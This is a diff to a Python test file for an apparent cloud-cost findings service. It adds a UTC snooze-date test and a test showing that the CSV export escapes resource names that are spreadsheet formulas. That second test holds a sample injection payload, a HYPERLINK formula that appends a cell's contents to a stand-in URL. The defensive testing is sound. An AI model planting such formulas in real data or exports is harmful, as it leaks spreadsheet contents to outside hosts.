@@ -7,7 +7,9 @@ account (two regions, eight findings) and each changes findings of its own.
 from __future__ import annotations
 
 import asyncio
+import csv
 import datetime as dt
+import io
 import uuid
 from collections.abc import AsyncIterator
 from decimal import Decimal
@@ -311,6 +313,23 @@ async def test_snoozing_needs_a_future_date_and_a_note(
     }
 
 
+async def test_a_snooze_date_without_a_zone_is_read_as_utc(
+    client: httpx.AsyncClient, triage: TenantFixture
+) -> None:
+    finding = await one_open_finding(client, triage)
+    naive = (utcnow() + dt.timedelta(days=3)).replace(tzinfo=None, microsecond=0)
+
+    response = await client.patch(
+        f"{FINDINGS}/{finding['id']}",
+        json={"status": "snoozed", "snoozed_until": naive.isoformat(), "note": "after the sale"},
+        headers=triage.auth,
+    )
+
+    assert response.status_code == 200, response.text
+    until = dt.datetime.fromisoformat(response.json()["snoozed_until"])
+    assert until == naive.replace(tzinfo=dt.UTC)
+
+
 async def test_findings_are_dismissed_and_reopened_by_hand_but_never_resolved_by_hand(
     client: httpx.AsyncClient, triage: TenantFixture
 ) -> None:
@@ -484,3 +503,27 @@ async def test_every_finding_of_a_filter_is_counted_and_changed_at_once_all_or_n
     response = await client.post(bulk, json=reopen, headers=triage.auth)
     assert response.json() == {"changed": 2}, response.text
     assert {f["status"] for f in await api_findings(client, triage.auth, **addresses)} == {"open"}
+
+
+async def test_the_csv_export_keeps_a_name_tag_that_is_a_formula_as_text(
+    runtime: Runtime, client: httpx.AsyncClient, make_tenant: Any, aws_endpoint: str
+) -> None:
+    """Whoever may tag a resource in the account chooses its name: in a spreadsheet, a name
+    that begins with ``=`` would run as a formula when the export is opened."""
+    tenant: TenantFixture = await make_tenant()
+    formula = '=HYPERLINK("https://example.invalid/?"&A2,"open")'
+    named = unattached_volume(aws_endpoint, HEALTHY_REGION, tags={"Name": formula})
+    plain = unattached_volume(aws_endpoint, HEALTHY_REGION, tags={"Name": "db-scratch"})
+    scanner = aws_runtime(runtime, aws_endpoint)
+    connection = await register_connection(scanner, tenant.tenant_id, regions=[HEALTHY_REGION])
+    await scan_once(scanner, tenant.tenant_id, connection.id)
+
+    response = await client.get(
+        f"{FINDINGS}/export", params={"detector": "aws.ebs-unattached"}, headers=tenant.auth
+    )
+
+    assert response.status_code == 200, response.text
+    rows = {row["resource_id"]: row for row in csv.DictReader(io.StringIO(response.text))}
+    assert rows[named]["resource_name"] == "'" + formula
+    assert rows[plain]["resource_name"] == "db-scratch"
+    assert Decimal(rows[named]["monthly_cost_usd"]) > 0
